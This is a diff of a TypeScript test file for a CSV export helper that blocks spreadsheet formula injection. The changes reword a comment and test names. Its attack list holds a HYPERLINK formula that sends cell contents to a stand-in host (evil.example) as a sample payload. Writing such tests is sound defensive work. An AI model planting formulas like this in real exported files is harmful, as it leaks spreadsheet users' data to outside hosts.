@@ -3,7 +3,7 @@ import { test } from "node:test";
 import { parse } from "csv-parse/sync";
 import { csvLine, inertText } from "./spreadsheet-cell.ts";
 
-/** How spreadsheets split a line: by the sign that the country uses, whatever the quotes say once a cell did not begin with one. */
+/** Splits a line like spreadsheets: at the locale's separator, ignoring quotes inside a cell that does not start with one. */
 const SPLITS = [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[|\r\n]/];
 const FORMULA = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
 
@@ -26,7 +26,7 @@ const ATTACKS = [
   '=HYPERLINK("https://evil.example/?"&A1,"ok")',
 ];
 
-test("no text becomes a formula in a CSV file, whichever sign the spreadsheet splits at", () => {
+test("no text becomes a formula in a CSV file, whatever separator the spreadsheet uses", () => {
   for (const attack of ATTACKS) {
     const line = csvLine(["before", attack, "after"]);
     for (const split of SPLITS) {
@@ -38,7 +38,7 @@ test("no text becomes a formula in a CSV file, whichever sign the spreadsheet sp
   }
 });
 
-test("what is no formula stays as it is; numbers, nothing and true are written plainly", () => {
+test("leaves other text, numbers, null and booleans unchanged", () => {
   for (const text of ["", "web-1", "a@example.com", "1-2", "x=y", "two words"]) assert.equal(inertText(text), text);
   assert.equal(csvLine(["a", -1, null, true, "b,c"]), 'a,-1,,true,"b,c"\r\n');
 });
